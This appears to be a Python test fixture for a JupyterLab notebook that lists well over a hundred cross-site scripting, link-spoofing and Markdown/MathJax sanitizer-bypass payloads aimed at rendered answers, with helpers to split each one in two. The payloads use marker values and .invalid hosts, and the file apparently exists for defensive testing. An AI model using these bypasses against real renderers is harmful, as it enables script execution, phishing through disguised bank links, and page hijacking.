r"""Answers that attack the page, each with a marker of its own, so that what is found says whose it is.

`ID` stands for the marker: a script that runs sets ``top.pwned_ID``, what is fetched is ``attack-ID`` at a foreign
host or at the notebook's own, and what gets into the document is of the class ``evil-ID``. `CUT` is where an answer
that arrives in two parts is cut; without one it is cut in the middle.
"""

from __future__ import annotations

CUT = "\N{BROKEN BAR}"
RUN = "top.pwned_ID=1"
AWAY = "http://attack-ID.invalid/"
HERE = "/attack-ID"
COMMAND = 'data-commandlinker-command="notebook:insert-cell-below"'
MARK = 'class="evil-ID"'
OUT = f'"onmouseover="{RUN}" onclick="{RUN}" style="position:fixed;inset:0" {MARK} x="'
TAG = f'<img src="{HERE}" onerror="{RUN}" {MARK}>'

_TEXTS = {
    # scripts and handlers
    "script": f"<script>{RUN}¦</script>",
    "script_line": f"Look: <script {MARK}>¦{RUN}</script> there",
    "script_src": f'<script src="{AWAY}x.js">¦</script>',
    "script_capitals": f"<SCRIPT\n>¦{RUN}</SCRIPT\n>",
    "script_blank_lines": f"<script>\n\n{RUN}\n¦\n</script>",
    "script_slash": f"<script/src={HERE}.js/¦></script>",
    "script_in_svg": f"<svg {MARK}><script>¦{RUN}</script></svg>",
    "script_after_comment": f"<!-- > ¦--><script>{RUN}</script>",
    "script_after_cdata": f"<![CDATA[>¦<img src=x onerror='{RUN}'>]]>",
    "script_after_instruction": f"<?x >¦<script>{RUN}</script>?>",
    "script_in_template": f"<template><script>{RUN}</script></template><math><mtext></template>{TAG}",
    "noscript": f'<noscript><p title="</noscript>¦<img src=x onerror={RUN}>">',
    "textarea": f"<textarea></textarea>¦<img src=x onerror='{RUN}'>",
    "onerror": f"text <img src=x ¦onerror='{RUN}' {MARK}> text",
    "onerror_unquoted_slash": f"<img/src=x/onerror={RUN}¦>",
    "onerror_open": f"<img src=x onerror='{RUN}' {MARK} ¦",
    "onerror_escaped": f"\\¦<img src=x onerror='{RUN}'>",
    "onerror_escaped_twice": f"\\\\¦<img src=x onerror='{RUN}'>",
    "onerror_control": f"<\x00img src=x onerror='{RUN}'¦>",
    "onload_svg": f"<svg onload='{RUN}' {MARK}¦></svg>",
    "ontoggle": f"<details open ontoggle={RUN} {MARK}><summary>a</summary>¦b</details>",
    "onfocus": f'<input autofocus onfocus="{RUN}" ¦{MARK}>',
    "onanimation": f"<style>@keyframes x{{}}</style>¦<b style='animation:x 1s' onanimationstart='{RUN}'>x</b>",
    "onclick": f'<b onclick="{RUN}" ¦{MARK}>press</b>',
    "onclick_over_lines": f"<b\nonclick='{RUN}'¦\n{MARK}>press</b>",
    "onclick_sub": f'H<sub onmouseover="{RUN}" onclick="{RUN}" ¦{MARK}>2</sub>O',
    "button": f'<button onclick="{RUN}" {MARK}>¦press</button>',
    "media": f'<video src="{HERE}.mp4" ¦onerror="{RUN}"></video><audio src="{AWAY}a.mp3"></audio>',
    "closing_tags": f"</p></div></div></div>¦<div {MARK}>out</div>",
    "never_closed": f"a <s>b <b>c <div {MARK}>\n\n¦d",
    # frames, forms, styles, and what the head may hold
    "iframe_srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"¦></iframe>',
    "iframe_script": f'<iframe src="javascript:¦{RUN}"></iframe>',
    "iframe_src": f'<iframe src="{AWAY}"¦></iframe>',
    "iframe_here": f'<iframe src="{HERE}"¦></iframe>',
    "object": f'<object data="{AWAY}"¦></object><embed src="{HERE}">',
    "form": f'<form action="{AWAY}" {MARK}><input name=q value=a><button>¦Send</button></form>',
    "formaction": f'<form {MARK}><button formaction="javascript:{RUN}"¦>Send</button></form>',
    "style": "<style>:root{--evil-ID:1} body{outline:7px solid red}¦</style>",
    "style_fetch": f"<style>@import '{AWAY}x.css';\n\nbody{{background:url({HERE}.png)}}¦</style>",
    "style_attribute": f'<p style="position:fixed;inset:0;z-index:9999;background:red" {MARK}>¦over</p>',
    "link": f'<link rel=stylesheet href="{AWAY}x.css"¦>',
    "meta": f'<meta http-equiv=refresh content="0;url={AWAY}"¦>',
    "base": f'<base href="{AWAY}"¦>',
    "body": f'<body onload="{RUN}" {MARK}¦>',
    "id": f'<a id="main" {MARK}></a><p name="jupyterapp"¦ {MARK}>x</p>',
    # commands of JupyterLab
    "command": f"<button {COMMAND} {MARK}>¦press</button>",
    "command_line": f"Press <b {COMMAND} ¦{MARK}>here</b>.",
    "command_link": f'<a href="#" {COMMAND} data-commandlinker-args="{{}}" ¦{MARK}>here</a>',
    # links
    "javascript": f"[press](javascript:¦{RUN})",
    "javascript_entities": f"[press](java&#115;cript&colon;¦{RUN})",
    "javascript_tab": f"[press](<java\tscript:¦{RUN}>)",
    "javascript_capitals": f"[press](JaVaScRiPt:¦{RUN})",
    "javascript_next_line": f"[press](\njavascript:¦{RUN})",
    "javascript_control": f"[press](\x01javascript:¦{RUN})",
    "javascript_autolink": f"<javascript:¦{RUN}>",
    "javascript_html": f'<a href="javascript:{RUN}" {MARK}>¦press</a>',
    "javascript_definition": f"[press][d]\n\n¦[d]: javascript:{RUN}",
    "javascript_definition_lines": f"[press][d]\n\n[d]:\n  javascript:¦{RUN}",
    "javascript_definition_quote": f"> [d]: javascript:¦{RUN}\n\n[d]",
    "javascript_bracket": f"[press\\](javascript:{RUN})¦](javascript:{RUN})",
    "javascript_address": f"javascript://bank.example/%0a{RUN} and ¦javascript://%0d%0a{RUN}//",
    "data_link": f"[press](data:text/html,<script>¦{RUN}</script>)",
    "here_link": f"[press](¦{HERE})",
    "file_link": "[press](file:///attack-ID¦)",
    "lie": "[https://bank.example/login](¦http://attack-ID.invalid/)",
    "lie_bare": "Go to [www.bank.example](¦http://attack-ID.invalid/) now",
    "lie_domain": "[**bank.com**](¦http://attack-ID.invalid/)",
    "lie_entity": "[https&#58;//bank.example](¦http://attack-ID.invalid/)",
    "lie_reference": "[https://bank.example][e]¦\n\n[e]: http://attack-ID.invalid/",
    "lie_backslash": "[bank.example](¦http://attack-ID.invalid\\\\@bank.example/)",
    "lie_definition": "[https://bank.example]¦\n\n[https://bank.example]: http://attack-ID.invalid/",
    "lie_entity_slash": "[https://bank.example](¦http://attack-ID.invalid&sol;@bank.example/)",
    "lie_entity_query": "[https://bank.example](¦http://attack-ID.invalid&quest;@bank.example/)",
    "lie_entity_number": "[https://bank.example](¦http://attack-ID.invalid&num;@bank.example/)",
    "lie_entity_backslash": "[https://bank.example](¦http://attack-ID.invalid&bsol;@bank.example/)",
    "lie_user": "[https://bank.example](¦http://bank.example@attack-ID.invalid/)",
    "lie_tags": "[https://bank<sub></sub>.example](¦http://attack-ID.invalid/)",
    "lie_ins": "[<ins>bank.example</ins>](¦http://attack-ID.invalid/)",
    "lie_long": "[https://bank.example/" + "x" * 500 + "](¦http://attack-ID.invalid/)",
    "lie_hidden": "[bank.\u034fcom](¦http://attack-ID.invalid/)",
    "lie_hidden_tag": "[b\U000e0001ank\u2063.\u3164com](¦http://attack-ID.invalid/)",
    "lie_wide": "[\uff42\uff41\uff4e\uff4b.com](¦http://attack-ID.invalid/)",
    "lie_bracket": "[https://bank.example\\]](¦http://attack-ID.invalid/)",
    "lie_bracket_in_code": "[https://bank.example `[`](¦http://attack-ID.invalid/)",
    "lie_bracket_in_maths": "[https://bank.example $[$](¦http://attack-ID.invalid/)",
    "lie_mail": "[https://bank.example](¦mailto:attack-ID@evil.invalid)",
    "here_host": "[press](¦http://a^/../../attack-ID)",
    "here_port": "[press](¦http://a:99999/../../attack-ID)",
    "here_numbers": "[press](¦http://1.2.3.4.5/../../attack-ID)",
    "here_escape": "[press](¦http://a%5e/../../attack-ID)",
    "here_punycode": "[press](¦http://xn--a/../../attack-ID)",
    "here_directions": "[press](¦http://1\u05d0.com/../../attack-ID)",
    "here_slash": "[press](¦http://\u2100.com/../../attack-ID)",
    "here_autolink": "Look at <http://a^/../../¦attack-ID>",
    "here_definition": "[press][h]\n\n[h]: http://a^/../../¦attack-ID",
    "here_bare": "Look at http://a^/../../¦attack-ID and www.a^/../../attack-ID",
    "here_bare_bracket": "Look at http://a](https://a.example/../../¦attack-ID)",
    # pictures
    "image": f"![x](¦{AWAY}i.png)",
    "image_here": f"![x](¦{HERE}.png)",
    "image_reference": f"![x][i]¦\n\n[i]: {AWAY}i.png",
    "image_twice": f"!¦![x]({AWAY}i.png)",
    "image_escaped": f"\\!¦![x]({AWAY}i.png)",
    "image_in_link": f"[![x](¦{AWAY}i.png)](https://a.example)",
    "image_html": f'<img src="{AWAY}i.png"¦ srcset="{HERE}.png 2x">',
    "picture": f'<picture><source srcset="{HERE}.png"¦><img alt=x></picture>',
    # maths: JupyterLab cuts it out before it reads Markdown, and puts it back raw
    "maths_after_address": f"https://a.example/$¦{OUT}$",
    "maths_after_www": f"www.a.example/$¦{OUT}$",
    "maths_in_target": f"[x](https://a.example/$¦{OUT}$)",
    "maths_in_title": f"[x](https://a.example '$¦{OUT}$')",
    "maths_in_image": f"![x$¦{OUT}$]({AWAY}i.png)",
    "maths_in_fence_line": f"- ```$¦{OUT}$\n  code\n  ```",
    "maths_in_brackets": f"https://a.example/\\\\(¦{OUT}\\\\)",
    "maths_marker": f"$¦{OUT}$ [x](https://a.example/@@0@@)",
    "maths_marker_escaped": f"$a$ $¦{OUT}$ [x](https://a.example/@\\@1@@)",
    "maths_over_fence": f"$a\n```\n$ ¦{TAG}\n```\n",
    "maths_over_nested_fence": f"- $ a\n  ```\n  $ ¦{TAG}\n  ```",
    "maths_into_fence": f"a $$ b\n\n```\n$$ ¦{TAG}\n```\n",
    "maths_href": f"$\\href{{¦javascript:{RUN}}}{{press}}$",
    "maths_href_away": f"$\\href{{¦{AWAY}}}{{\\text{{https://bank.example}}}}$",
    "maths_style": "$$\\style{position:fixed;top:0;left:0}{¦\\class{evil-ID}{over}}$$",
    "maths_id": "$\\cssId{evil-ID}{¦x}$ $\\data{commandlinker-command=notebook:insert-cell-below}{y}$",
    "maths_entity": "&#36;\\h&#114;ef{¦http://attack-ID.invalid/}{press}&#36;",
    "maths_defines": "$$\\newcommand{\\evilID}{1}¦\\def\\sum{0} \\let\\int\\alpha$$",
    "maths_html": "$$\\begin{array}{c}¦\\htmlClass{evil-ID}{x}\\htmlStyle{position:fixed}{y}\\end{array}$$",
    # code that is none
    "fence_open": f"```\n{TAG}¦",
    "fence_more": f"```\na\n`````\n¦{TAG}",
    "fence_backtick": f"``` a`b\n¦{TAG}\n```",
    "fence_language": f"```py{OUT}¦\nx = 1\n```",
    "fence_language_tag": f"```py>{TAG}¦\nx = 1\n```",
    "fence_class": "```py¦ evil-ID jp-Dialog lm-Menu\nover\n```",
    "fence_class_nested": "- ~~~ py¦ evil-ID jp-Dialog\n  over\n  ~~~",
    "fence_language_nested": f"1. ```py{OUT}¦\n   x = 1\n   ```",
    "fence_four": f"    ```\n¦{TAG}\n    ```",
    "fence_in_div": f"<div>\n```\n</div>\n¦{TAG}\n```",
    "fence_list_ends": f"- ```\n¦{TAG}\n  ```",
    "fence_quote_ends": f"> ```\n¦{TAG}\n> ```",
    "fence_separator": f"```\u2028{TAG}¦\u2028```",
    "span_paragraphs": f"`a\n\n¦{TAG}`",
    "span_escaped": f"\\`¦{TAG}`",
    "span_cells": f"| a | b |\n|---|---|\n| ` | ` ¦{TAG} |",
    "span_pipe": f"| a | b |\n|---|---|\n| `¦{TAG}|` |",
    "span_lengths": f"``a` ¦{TAG} ``` b``",
    "indented": f"a\n    ¦{TAG}",
    "heading": f"# ¦{TAG}\n\n<x {MARK}>\n===",
    "crlf": f"```\r\na\r\n```\r\n<img src=x¦\r\nonerror='{RUN}'>",
    "carriage_return": f"```\ra\r```\r¦{TAG}",
    "footnote": f"[^1]\n\n[^1]: javascript:¦{RUN}",
    "mermaid": f'```mermaid\nflowchart LR\n  A["¦<img src={AWAY}i.png onerror={RUN}>"]\n```',
    "mermaid_style": '```mermaid\n%%{init: {"themeCSS": "} body {--evil-ID: 1"}}%%\nflowchart LR\n  A-->¦B\n```',
    "autolink_in_html": f"<sub>\n<https://onmouseover={RUN}//¦>\n",
}

ATTACKS = {name: text.replace("ID", name) for name, text in _TEXTS.items()}  # CUT is still in them


def whole(name: str) -> str:
    """Return an attack as it arrives in the end."""
    return ATTACKS[name].replace(CUT, "")


def halves(name: str) -> tuple[str, str]:
    """Return an attack cut in two at its worst place."""
    before, found, after = ATTACKS[name].partition(CUT)
    middle = len(before) // 2
    return (before, after) if found else (before[:middle], before[middle:])
